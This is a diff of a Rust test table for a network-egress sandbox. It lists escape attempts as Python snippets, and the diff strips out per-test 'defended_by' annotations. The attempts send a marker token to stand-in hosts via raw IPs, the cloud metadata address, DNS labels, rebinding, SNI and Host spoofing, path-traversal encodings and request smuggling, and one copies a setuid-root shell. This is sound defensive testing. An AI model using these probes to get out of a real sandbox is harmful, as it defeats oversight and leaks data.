@@ -13,14 +13,11 @@ pub struct Attempt {
     pub arrives: bool,
     /// Whether the audit log has a record of the refusal; what never reaches the proxy has none.
     pub audited: bool,
-    /// The defence that shuts this way alone: with it off, the attack gets out. `None` where several stand behind each
-    /// other, or the kernel itself is the defence.
-    pub defence: Option<&'static str>,
 }
 
 /// An attempt with the usual control.
 const fn attempt(name: &'static str, attack: &'static str, control: &'static str) -> Attempt {
-    Attempt { name, attack, control, arrives: true, audited: true, defence: None }
+    Attempt { name, attack, control, arrives: true, audited: true }
 }
 
 impl Attempt {
@@ -30,10 +27,6 @@ impl Attempt {
 
     const fn unaudited(self) -> Self {
         Self { audited: false, ..self }
-    }
-
-    const fn defended_by(self, defence: &'static str) -> Self {
-        Self { defence: Some(defence), ..self }
     }
 }
 
@@ -55,15 +48,13 @@ pub const ATTEMPTS: &[Attempt] = &[
         "tcp-port-not-listed",
         "s = dial('open.example.org', 8080); demand(say(s, get('open.example.org', '/', T)), b'world')",
         PLAIN,
-    )
-    .defended_by("port"),
+    ),
     attempt(
         "tcp-to-a-literal",
         "s = dial('198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')",
         PLAIN,
-    )
-    .defended_by("no-rule"),
-    attempt("tcp-to-a-foreign-literal", "s = dial('192.0.2.7', 443); say(s, T.encode())", SECURE).defended_by("no-rule"),
+    ),
+    attempt("tcp-to-a-foreign-literal", "s = dial('192.0.2.7', 443); say(s, T.encode())", SECURE),
     attempt(
         "udp-to-a-port-not-listed",
         "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
@@ -110,12 +101,10 @@ s.sendto(b'\\x08\\0\\0\\0\\0\\1\\0\\1' + T.encode(), ('192.0.2.7', 0)); s.recv(9
         PLAIN,
     )
     .unaudited(),
-    attempt("ipv6-literal", "s = dial('2001:db8::7', 80); say(s, T.encode())", PLAIN).defended_by("no-rule"),
-    attempt("v4-mapped-literal", "s = dial('::ffff:198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN)
-        .defended_by("no-rule"),
-    attempt("metadata-literal", "s = dial('169.254.169.254', 80); say(s, T.encode())", PLAIN).defended_by("no-rule"),
-    attempt("host-address", "s = dial('198.51.100.2', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN)
-        .defended_by("no-rule"),
+    attempt("ipv6-literal", "s = dial('2001:db8::7', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN),
+    attempt("v4-mapped-literal", "s = dial('::ffff:198.51.100.1', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN),
+    attempt("metadata-literal", "s = dial('169.254.169.254', 80); demand(say(s, get('169.254.169.254', '/', T)), b'world')", PLAIN),
+    attempt("host-address", "s = dial('198.51.100.2', 80); demand(say(s, get('open.example.org', '/', T)), b'world')", PLAIN),
     attempt(
         "gateway-of-an-internal-network",
         "import subprocess
@@ -170,23 +159,19 @@ s = dial('192.0.2.7', 80); say(s, T.encode())",
         "demand(str(ask_dns('198.51.100.1', T + '.example.net')).encode(), b'(0, 1)')",
         "demand(str(ask_dns('198.51.100.1', 'open.example.org')).encode(), b'(0, 1)')",
     )
-    .stays_inside()
-    .defended_by("dns"),
+    .stays_inside(),
     attempt(
         "another-resolver-over-tcp",
         "demand(str(ask_dns('198.51.100.1', T + '.example.net', tcp=True)).encode(), b'(0, 1)')",
         "demand(str(ask_dns('198.51.100.1', 'open.example.org', tcp=True)).encode(), b'(0, 1)')",
     )
-    .stays_inside()
-    .defended_by("dns"),
-    attempt("a-name-not-listed", "s = dial('other.example.net', 80); demand(say(s, get('other.example.net', '/', T)), b'world')", PLAIN)
-        .defended_by("dns"),
+    .stays_inside(),
+    attempt("a-name-not-listed", "s = dial('other.example.net', 80); demand(say(s, get('other.example.net', '/', T)), b'world')", PLAIN),
     attempt(
         "data-in-labels",
         "socket.getaddrinfo(T + '.secret-data-0123456789.example.net', 80)",
         "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T)), b'world says')",
-    )
-    .defended_by("dns"),
+    ),
     attempt(
         "data-in-labels-of-a-wildcard",
         "socket.getaddrinfo(T + '.x.y.wild.example.org', 80); raise SystemExit",
@@ -207,51 +192,40 @@ raise OSError('no answer is asked for')",
         PLAIN,
     )
     .unaudited(),
-    attempt("dns-over-https", "https('other.example.net', 'other.example.net', get('other.example.net', '/dns-query', T))", SECURE)
-        .defended_by("dns"),
-    attempt("dns-over-tls", "s = dial('198.51.100.1', 853); say(s, T.encode())", SECURE).defended_by("no-rule"),
-    attempt("rebinding-to-loopback", "demand(http('loopback.example.org', get('loopback.example.org', '/', T)), b'world')", PLAIN)
-        .defended_by("dial"),
-    attempt("rebinding-to-private", "demand(http('private.example.org', get('private.example.org', '/', T)), b'world')", PLAIN)
-        .defended_by("dial"),
-    attempt("rebinding-to-metadata", "demand(http('metadata.example.org', get('metadata.example.org', '/', T)), b'world')", PLAIN)
-        .defended_by("dial"),
-    attempt("alias-to-private", "demand(http('alias.example.org', get('alias.example.org', '/', T)), b'world')", PLAIN)
-        .defended_by("dial"),
+    attempt("dns-over-https", "https('other.example.net', 'other.example.net', get('other.example.net', '/dns-query', T))", SECURE),
+    attempt("dns-over-tls", "s = dial('198.51.100.1', 853); say(s, T.encode())", SECURE),
+    attempt("rebinding-to-loopback", "demand(http('loopback.example.org', get('loopback.example.org', '/', T)), b'world')", PLAIN),
+    attempt("rebinding-to-private", "demand(http('private.example.org', get('private.example.org', '/', T)), b'world')", PLAIN),
+    attempt("rebinding-to-metadata", "demand(http('metadata.example.org', get('metadata.example.org', '/', T)), b'world')", PLAIN),
+    attempt("alias-to-private", "demand(http('alias.example.org', get('alias.example.org', '/', T)), b'world')", PLAIN),
     // --- TLS
     attempt(
         "sni-of-another-name",
         "https('open.example.org', 'other.example.net', get('other.example.net', '/', T))",
         SECURE,
-    )
-    .defended_by("sni"),
+    ),
     attempt(
         "allowed-sni-to-a-foreign-address",
         "https('192.0.2.7', 'open.example.org', get('open.example.org', '/', T))",
         SECURE,
-    )
-    .defended_by("no-rule"),
-    attempt("no-sni", "https('open.example.org', None, get('open.example.org', '/', T))", SECURE).defended_by("sni"),
-    attempt("sni-that-is-an-address", "https('open.example.org', '198.51.100.1', get('open.example.org', '/', T))", SECURE)
-        .defended_by("sni"),
+    ),
+    attempt("no-sni", "https('open.example.org', None, get('open.example.org', '/', T))", SECURE),
+    attempt("sni-that-is-an-address", "https('open.example.org', '198.51.100.1', get('open.example.org', '/', T))", SECURE),
     attempt(
         "hello-in-single-bytes",
         "https('open.example.org', 'other.example.net', get('x', '/', T), pieces=lambda h: [h[i:i+1] for i in range(len(h))])",
         "demand(https('open.example.org', 'open.example.org', get('x', '/', T), pieces=lambda h: [h[i:i+1] for i in range(len(h))]), b'world')",
-    )
-    .defended_by("sni"),
+    ),
     attempt(
         "hello-over-several-records",
         "https('open.example.org', 'other.example.net', get('x', '/', T), pieces=lambda h: records(h, 40))",
         "demand(https('open.example.org', 'open.example.org', get('x', '/', T), pieces=lambda h: records(h, 40)), b'world')",
-    )
-    .defended_by("sni"),
+    ),
     attempt(
         "long-hello",
         "https('open.example.org', 'other.example.net', get('x', '/', T), alpn=['http/1.1'] + ['x' * 250] * 12)",
         "demand(https('open.example.org', 'open.example.org', get('x', '/', T), alpn=['http/1.1'] + ['x' * 250] * 12), b'world')",
-    )
-    .defended_by("sni"),
+    ),
     attempt("plain-bytes-on-443", "s = dial('open.example.org', 443); s.sendall(T.encode() * 99); s.recv(9); raise OSError(s.recv(9))", SECURE),
     attempt(
         "connect-with-another-inner-name",
@@ -259,68 +233,47 @@ raise OSError('no answer is asked for')",
 c = Tls('other.example.net').finish(s); c.ask(get('other.example.net', '/', T))",
         "s = dial('127.0.0.1', PROXY); demand(say(s, b'CONNECT open.example.org:443 HTTP/1.1\\r\\nHost: open.example.org:443\\r\\n\\r\\n'), b' 200 ')
 c = Tls('open.example.org').finish(s); demand(c.ask(get('open.example.org', '/', T)), b'world')",
-    )
-    .defended_by("sni"),
+    ),
     attempt(
         "connect-to-a-port-not-listed",
         "s = dial('127.0.0.1', PROXY); demand(say(s, b'CONNECT open.example.org:8080 HTTP/1.1\\r\\nHost: open.example.org:8080\\r\\n\\r\\n'), b' 200 '); say(s, get('x', '/', T))",
         "s = dial('127.0.0.1', PROXY); demand(say(s, get('open.example.org', 'http://open.example.org/', T)), b'world')",
-    )
-    .defended_by("port"),
+    ),
     attempt(
         "connect-to-the-proxy-itself",
         "s = dial('127.0.0.1', PROXY); demand(say(s, f'CONNECT 127.0.0.1:{PROXY} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode()), b' 200 '); say(s, get('x', '/', T))",
         "s = dial('127.0.0.1', PROXY); demand(say(s, get('open.example.org', 'http://open.example.org/', T)), b'world')",
     ),
-    attempt(
-        "intercepted-sni-and-host-differ",
-        "demand(https('api.example.org', 'api.example.org', get('other.example.net', '/v1/x', T)), b'world')",
-        "demand(https('api.example.org', 'api.example.org', get('api.example.org', '/v1/x', T)), b'world')",
-    )
-    .defended_by("host"),
-    attempt(
-        "intercepted-path-not-listed",
-        "demand(https('api.example.org', 'api.example.org', get('api.example.org', '/v2/x', T)), b'world')",
-        "demand(https('api.example.org', 'api.example.org', get('api.example.org', '/v1/x', T)), b'world')",
-    )
-    .defended_by("path"),
     // --- HTTP
-    attempt("host-of-another-name", "demand(http('open.example.org', get('other.example.net', '/', T)), b'world')", PLAIN)
-        .defended_by("host"),
+    attempt("host-of-another-name", "demand(http('open.example.org', get('other.example.net', '/', T)), b'world')", PLAIN),
     attempt(
         "host-spellings",
-        "for host in ('open.example.org.evil.example', 'open.example.org:81', 'user@open.example.org', 'open.example.org\\0', 'open%2eexample.org', '[open.example.org]', 'open.example.org ', '3325256705', '0306.063.0144.1', ''):
+        "for host in ('open.example.org.evil.example', 'open.example.org:81', 'user@open.example.org', 'open.example.org\\0', 'open%2eexample.org', '[open.example.org]', '3325256705', '0306.063.0144.1', ''):
     got = http('open.example.org', get(host, '/', T))
     if b'world says' in got: break
 else: raise OSError('refused in every spelling')",
         "for host in ('OPEN.example.ORG', 'open.example.org.', 'open.example.org:80'): demand(http('open.example.org', get(host, '/', T)), b'world says')",
-    )
-    .defended_by("host"),
+    ),
     attempt(
         "absolute-form-of-another-name",
         "demand(http('open.example.org', get('open.example.org', 'http://other.example.net/', T)), b'world says')",
         "demand(http('open.example.org', get('open.example.org', 'http://open.example.org/', T)), b'world says')",
-    )
-    .defended_by("host"),
-    attempt("two-hosts", "demand(http('open.example.org', get('open.example.org', '/', T, 'Host: other.example.net\\r\\n')), b'world says')", PLAIN)
-        .defended_by("host"),
+    ),
+    attempt("two-hosts", "demand(http('open.example.org', get('open.example.org', '/', T, 'Host: other.example.net\\r\\n')), b'world says')", PLAIN),
     attempt(
         "second-request-to-another-host",
         "demand(http('open.example.org', get('open.example.org', '/') + get('other.example.net', '/', T)), b'world says GET /\\n' * 2)",
         "demand(http('open.example.org', get('open.example.org', '/') + get('open.example.org', '/2', T)), b'/2')",
-    )
-    .defended_by("host"),
-    attempt("method-not-listed", "demand(http('api.example.org', get('api.example.org', '/v1/x', T, 'Content-Length: 0\\r\\n', 'POST')), b'world')", JUDGED)
-        .defended_by("method"),
-    attempt("path-not-listed", "demand(http('api.example.org', get('api.example.org', '/v2/x', T)), b'world')", JUDGED).defended_by("path"),
+    ),
+    attempt("method-not-listed", "demand(http('api.example.org', get('api.example.org', '/v1/x', T, 'Content-Length: 0\\r\\n', 'POST')), b'world')", JUDGED),
+    attempt("path-not-listed", "demand(http('api.example.org', get('api.example.org', '/v2/x', T)), b'world')", JUDGED),
     attempt(
         "path-tricks",
         "for path in ('/v1/../v2/x', '/v1/%2e%2e/v2/x', '/v1/%2E./v2/x', '/v1//../../v2', '/v1%2f..%2fv2', '/v1/..%2fv2', '/v1/..;/v2', '/v1\\\\..\\\\v2', '/v1/%252e%252e/v2\\0', '//v1/x', '/V1/x', '/v1/x\\t', '/v1/..', '/v1/%00'):
     if b'world says' in http('api.example.org', get('api.example.org', path, T)): break
 else: raise OSError('refused in every form')",
         "for path in ('/v1/a/../x', '/v1/%7ex', '/v1/./x?q=/../v2'): demand(http('api.example.org', get('api.example.org', path, T)), b'world says')",
-    )
-    .defended_by("path"),
+    ),
     attempt(
         "smuggling",
         "inner = get('other.example.net', '/', T).decode()
@@ -341,16 +294,14 @@ raise OSError('what counts is what arrived')",
         "websocket",
         "demand(http('open.example.org', get('open.example.org', '/', T, 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n')), b' 101 ')",
         "demand(http('a.wild.example.org', get('a.wild.example.org', '/', T, 'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n')), b' 101 ')",
-    )
-    .defended_by("upgrade"),
+    ),
     attempt(
         "redirect",
         "import urllib.request
 demand(urllib.request.urlopen('http://open.example.org/redirect', timeout=2).read(), b'landed')",
         PLAIN,
-    )
-    .defended_by("dns"),
-    attempt("server-speaks-first", "s = dial('other.example.net', 9999); s.recv(99); say(s, (T + '\\n').encode())", BANNER).defended_by("dns"),
+    ),
+    attempt("server-speaks-first", "s = dial('other.example.net', 9999); s.recv(99); say(s, (T + '\\n').encode())", BANNER),
     // --- files
     attempt("read-only-source", "open('/usr/bin/env', 'ab').write(b'x')", "open('/tmp/x', 'ab').write(b'x')").stays_inside().unaudited(),
     attempt("set-user-id", "import os, shutil; shutil.copy('/bin/sh', '/tmp/sh'); os.chmod('/tmp/sh', 0o4755); os.setuid(0); os.chown('/tmp/sh', 0, 0); raise SystemExit if os.geteuid() else None", "open('/tmp/y', 'w')").stays_inside().unaudited(),
